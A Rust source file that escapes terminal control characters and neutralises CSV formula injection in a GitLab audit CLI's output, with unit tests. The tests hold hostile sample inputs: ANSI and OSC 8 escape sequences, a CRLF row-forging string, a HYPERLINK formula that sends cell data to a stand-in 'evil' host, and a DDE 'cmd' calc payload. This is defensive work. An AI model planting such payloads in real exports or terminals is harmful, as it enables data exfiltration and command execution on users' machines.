//! Escaping for values printed by the CLIs (`tokentrail query`, `tokentrail alerts`).
//!
//! Every stored string came from a GitLab payload, so it is attacker-controlled: an
//! `author_name` with `ESC [ 31 m` recolours the auditor's terminal, a `\r\n` inside a path
//! forges an extra row, and a CSV cell starting with `=` runs as a spreadsheet formula.
//! Table/text output therefore shows control characters as visible escapes, and CSV cells are
//! additionally neutralised as OWASP's CSV-injection guidance says (a leading `'`). JSON
//! output needs neither: serde already escapes control characters and spreadsheets do not
//! evaluate it.

use std::borrow::Cow;
use std::fmt::Write;

/// Whether `c` is a C0 control (U+0000–U+001F, including ESC, CR, LF, BEL), DEL (U+007F) or
/// a C1 control (U+0080–U+009F, which some terminals act on like ESC sequences).
pub fn is_control(c: char) -> bool {
    c.is_control()
}

/// `value` with every control character replaced by a visible escape: `\n`, `\r`, `\t`
/// literally, other C0 controls and DEL as `\xHH`, C1 controls as `\u{HH}` (they are
/// characters, not bytes). Everything else, including backslashes, is unchanged, so
/// ordinary values read as before.
pub fn escape_controls(value: &str) -> Cow<'_, str> {
    if !value.chars().any(is_control) {
        return Cow::Borrowed(value);
    }
    let mut out = String::with_capacity(value.len() + 8);
    for c in value.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if u32::from(c) < 0x80 && is_control(c) => {
                let _ = write!(out, "\\x{:02x}", u32::from(c));
            }
            c if is_control(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV
/// Injection"): `=`, `+`, `-`, `@`, and tab and CR, which some spreadsheets skip before
/// looking for them.
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell for CSV output: prefixed with `'` when it starts with a formula trigger, then
/// control characters escaped as in [`escape_controls`]. RFC 4180 quoting is applied after
/// this, by the CSV writer. Numbers are not text cells: a JSON number cannot hold a formula
/// and `-5` must stay a number.
pub fn csv_text_cell(value: &str) -> String {
    let escaped = escape_controls(value);
    if value.starts_with(FORMULA_TRIGGERS) {
        format!("'{escaped}")
    } else {
        escaped.into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_values_are_borrowed_unchanged() {
        for v in ["", "group/project", "C:\\path", "é ü 中文", "a\\nb"] {
            assert!(
                matches!(escape_controls(v), Cow::Borrowed(s) if s == v),
                "{v}"
            );
        }
    }

    #[test]
    fn terminal_escape_sequences_become_visible() {
        assert_eq!(
            escape_controls("\u{1b}[31mroot\u{1b}[0m\u{7}"),
            "\\x1b[31mroot\\x1b[0m\\x07"
        );
        // OSC 8 hyperlink and a C1 CSI (U+009B), which some terminals honour like ESC [.
        assert_eq!(
            escape_controls("\u{1b}]8;;http://evil\u{1b}\\x\u{9b}2J"),
            "\\x1b]8;;http://evil\\x1b\\x\\u{9b}2J"
        );
        assert_eq!(
            escape_controls("\0\u{7f}\u{80}\u{9f}"),
            "\\x00\\x7f\\u{80}\\u{9f}"
        );
    }

    #[test]
    fn line_breaks_cannot_forge_rows() {
        let forged = "group/a\r\nALERT_ID-forged  not_allowlisted  high";
        let shown = escape_controls(forged);
        assert_eq!(shown, "group/a\\r\\nALERT_ID-forged  not_allowlisted  high");
        assert!(!shown.contains(['\r', '\n']));
        assert_eq!(escape_controls("a\tb"), "a\\tb");
    }

    #[test]
    fn csv_formula_cells_are_neutralised() {
        assert_eq!(
            csv_text_cell("=HYPERLINK(\"http://evil/?\"&A1,\"click\")"),
            "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")"
        );
        for v in ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"] {
            assert_eq!(csv_text_cell(v), format!("'{v}"));
        }
        assert_eq!(csv_text_cell("\t=1"), "'\\t=1");
        assert_eq!(csv_text_cell("\r=1"), "'\\r=1");
        assert_eq!(csv_text_cell("a=b"), "a=b");
        assert_eq!(csv_text_cell("x\u{1b}[2J"), "x\\x1b[2J");
    }
}
